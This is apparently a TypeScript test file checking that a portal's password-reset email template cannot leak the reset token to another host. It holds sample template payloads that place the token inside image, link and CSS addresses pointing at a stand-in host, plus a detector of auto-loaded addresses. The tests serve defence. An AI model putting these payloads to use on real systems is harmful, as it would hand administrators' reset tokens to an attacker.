/**
 * The takeover path through a template: a staff user builds the reset template so that the mail
 * client would hand the reset link to another host (an image, a style, a link around the
 * placeholder), asks for a reset for an administrator, and the mail is read from a real SMTP
 * server on loopback. The token reaches no address a mail client would load; the only place it
 * stands is the server's own button (and its address in the text part).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { bearer, buildTestApp, createAccount, login, settledMessage, type TestContext } from './helpers.ts';
import { smtpTransport } from '../../server/adapters/mail.ts';
import { startFakeSmtp, type FakeSmtp } from './fakes/smtp.ts';
import { parseMail } from './fakes/mime.ts';
import { readFile } from 'node:fs/promises';

let smtp: FakeSmtp;
let t: TestContext;
let staffToken: string;
const RESET_TEMPLATE = 6;

beforeAll(async () => {
  smtp = await startFakeSmtp();
  t = await buildTestApp({ mail: smtpTransport(smtp.url) });
  const staff = await createAccount(t.db, { role_id: 5 });
  staffToken = await login(t.app, staff.email, staff.password);
});
afterAll(async () => {
  await t?.close();
  await smtp?.close();
});

const saveTemplate = (content: string) =>
  t.app.inject({ method: 'PATCH', url: `/api/emails/template/${RESET_TEMPLATE}`, headers: bearer(staffToken), payload: { content } });

/** Asks for a reset for a new administrator and answers the mail as received, with the token. */
async function resetMailForAdmin() {
  const admin = await createAccount(t.db, { role_id: 5 });
  expect((await t.app.inject({ method: 'POST', url: '/api/user/password/reset', payload: { email: admin.email } })).statusCode).toBe(200);
  await settledMessage(t.db, 'SELECT status FROM message_log WHERE email_to = $1', [admin.email]);
  const received = smtp.received.find((mail) => mail.to === admin.email);
  expect(received, 'the mail reached the SMTP server').toBeDefined();
  const mail = parseMail(received!.raw);
  // The live token: the one whose hash the portal stored for this address.
  const token = /token=([A-Za-z0-9_-]{20,})/.exec(mail.html)?.[1] ?? '';
  const [stored] = await t.db.query<{ token_hash: string }>('SELECT token_hash FROM password_resets WHERE email = lower($1)', [admin.email]);
  expect(createHash('sha256').update(token).digest('hex')).toBe(stored.token_hash);
  return { admin, mail, token };
}

/**
 * Every address in the HTML that a mail client fetches by itself when it shows the message:
 * src, srcset, background, poster, data, action, style url(), <link href>, @import.
 */
function fetchedAddresses(html: string): string[] {
  const found: string[] = [];
  for (const match of html.matchAll(/\s(?:src|srcset|background|poster|data|action|formaction|dynsrc|lowsrc)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi))
    found.push(match[1]);
  for (const match of html.matchAll(/url\(\s*([^)]*)\)/gi)) found.push(match[1]);
  for (const match of html.matchAll(/@import\s+([^;]+)/gi)) found.push(match[1]);
  for (const match of html.matchAll(/<link\b[^>]*>/gi)) found.push(match[0]);
  return found;
}

/** The href of every link in the HTML. */
const linkAddresses = (html: string) => [...html.matchAll(/<a\b[^>]*\shref="([^"]*)"/gi)].map((match) => match[1].replace(/&amp;/g, '&'));

describe('a staff user tries to send the reset link elsewhere through the template', () => {
  it('refuses the old placeholder and the button marker inside an image, a link or a style', async () => {
    const attempts = [
      '<p>Hei {first_name}</p><img src="https://elsewhere.example/p.gif?l={link}"><p>{button}</p>',
      '<p>{button}</p><img src="https://elsewhere.example/p.gif?l={button}">',
      '<p>{button}</p><p><a href="https://elsewhere.example/?l={button}">Klikk</a></p>',
      '<p>{button}</p><p style="color: #000">x</p><img alt="{button}" src="data:image/png;base64,iVBORw0KGgo=">',
      '<p>Hei</p>',
    ];
    for (const content of attempts) {
      const response = await saveTemplate(content);
      expect(response.statusCode, content).toBe(422);
      expect(response.json().errors.content, content).toBeDefined();
    }
    const [stored] = await t.db.query<{ content: string }>('SELECT content FROM email_templates WHERE id = $1', [RESET_TEMPLATE]);
    expect(stored.content).not.toContain('elsewhere');
  });

  it('saves a template with remote images and styles only without them', async () => {
    const response = await saveTemplate(
      [
        '<p>Hei {first_name}</p><p>{button}</p>',
        '<img src="https://elsewhere.example/p.gif">',
        '<img srcset="https://elsewhere.example/s.gif 1x" src="//elsewhere.example/r.gif">',
        '<div style="background-image: url(https://elsewhere.example/b.gif); color: #123456">Tekst</div>',
        '<table background="https://elsewhere.example/t.gif"><tr><td background="https://elsewhere.example/c.gif">Celle</td></tr></table>',
        '<style>@import url(https://elsewhere.example/s.css);</style><link rel="stylesheet" href="https://elsewhere.example/l.css">',
        '<video poster="https://elsewhere.example/v.gif"></video><iframe src="https://elsewhere.example/f"></iframe>',
        '<script src="https://elsewhere.example/x.js"></script>',
      ].join(''),
    );
    expect(response.statusCode, response.body).toBe(200);
    const content = response.json().data.content as string;
    expect(content).not.toContain('elsewhere');
    expect(content).toContain('{button}');
    expect(content).toContain('Tekst');
  });

  it('a template stored before the rule (an image around {link} and {button}) still hands the token to no one else', async () => {
    // As if written to the database before the server refused it (or by a migration-era editor).
    await t.db.query('UPDATE email_templates SET content = $2 WHERE id = $1', [
      RESET_TEMPLATE,
      [
        '<p>Hei {first_name}</p>',
        '<img src="https://elsewhere.example/p.gif?l={link}">',
        '<img src="https://elsewhere.example/q.gif?l={button}">',
        '<p style="background:url(https://elsewhere.example/{button})">{button}</p>',
        '<a href="https://elsewhere.example/?l={link}">{link}</a>',
        '<img srcset="https://elsewhere.example/{button} 2x">',
      ].join(''),
    ]);
    const { mail, token } = await resetMailForAdmin();
    expect(token.length).toBeGreaterThanOrEqual(20);

    // Nothing the mail loads points at the other host or carries the token; the one link staff
    // wrote to it (clicked, never loaded) does not carry it either.
    expect(fetchedAddresses(mail.html)).toEqual([]);
    expect(mail.html).not.toMatch(/<img|<style|<link|url\(/i);
    for (const href of linkAddresses(mail.html).filter((address) => address.includes('elsewhere'))) expect(href).not.toContain(token);
    // The token stands in exactly one place of the HTML: the server's button to the portal.
    expect(mail.html.split(token)).toHaveLength(2);
    const carrying = linkAddresses(mail.html).filter((href) => href.includes(token));
    expect(carrying).toHaveLength(1);
    const button = new URL(carrying[0]);
    expect(button.origin).toBe('http://portal.test');
    expect(button.pathname).toBe('/password/change');
    // And in the text part only as that same address.
    expect(mail.text).toContain(`Lag nytt passord: ${carrying[0]}`);
    expect(mail.text.split(token)).toHaveLength(2);
  });

  it('the attack walked through the API: the saved template sends the token only in the button', async () => {
    const saved = await saveTemplate('<p>Hei {first_name},</p><p><img src="https://elsewhere.example/p.gif?l=spor"></p><p>{button}</p><p>Hilsen kontoret</p>');
    expect(saved.statusCode).toBe(200);
    const { admin, mail, token } = await resetMailForAdmin();
    expect(mail.html).not.toContain('elsewhere');
    expect(fetchedAddresses(mail.html)).toEqual([]);
    expect(linkAddresses(mail.html)).toEqual([`http://portal.test/password/change?token=${token}&email=${encodeURIComponent(admin.email)}`]);
    // The link works for the administrator.
    const changed = await t.app.inject({
      method: 'POST',
      url: '/api/user/password/change',
      payload: { token, email: admin.email, password: 'nyttpassord1', password_confirmation: 'nyttpassord1' },
    });
    expect(changed.statusCode).toBe(200);
  });
});

describe('templates stored with the old {link} placeholder', () => {
  it('migration 016 turns the link around {link} into the button marker, removes any other {link}, and the mail keeps its link', async () => {
    const legacyReset = '<p>Hei {first_name},</p>\n<p>Klikk på lenken under:</p>\n<p><a href="{link}">Lag nytt passord</a></p>\n<p>Med vennlig hilsen</p>';
    const legacyWelcome = '<p>Hei {first_name}</p><img src="https://elsewhere.example/p.gif?l={link}"><p>Logg inn med {email}.</p>';
    await t.db.query("UPDATE email_templates SET content = $1 WHERE slug = 'password-reset'", [legacyReset]);
    await t.db.query("UPDATE email_templates SET content = $1 WHERE slug = 'vipps-welcome'", [legacyWelcome]);
    const sql = await readFile(new URL('../../server/db/migrations/016_template_button.sql', import.meta.url), 'utf8');
    const statements = sql
      .replace(/--.*$/gm, '')
      .split(';')
      .map((part) => part.trim())
      .filter((part) => /^UPDATE email_templates\s+SET content/i.test(part));
    expect(statements).toHaveLength(3);
    for (const statement of statements) await t.db.query(statement);

    const rows = await t.db.query<{ slug: string; content: string }>(
      "SELECT slug, content FROM email_templates WHERE slug IN ('password-reset', 'vipps-welcome') ORDER BY slug",
    );
    const bySlug = Object.fromEntries(rows.map((row) => [row.slug, row.content]));
    expect(bySlug['password-reset']).toBe('<p>Hei {first_name},</p>\n<p>Klikk på lenken under:</p>\n<p>{button}</p>\n<p>Med vennlig hilsen</p>');
    expect(bySlug['vipps-welcome']).not.toContain('{link}');
    expect(bySlug['vipps-welcome']).toMatch(/<p>\{button\}<\/p>$/);

    const { mail, token } = await resetMailForAdmin();
    expect(linkAddresses(mail.html).filter((href) => href.includes(token))).toHaveLength(1);
    expect(mail.html).toContain('Lag nytt passord</a>');
  });
});
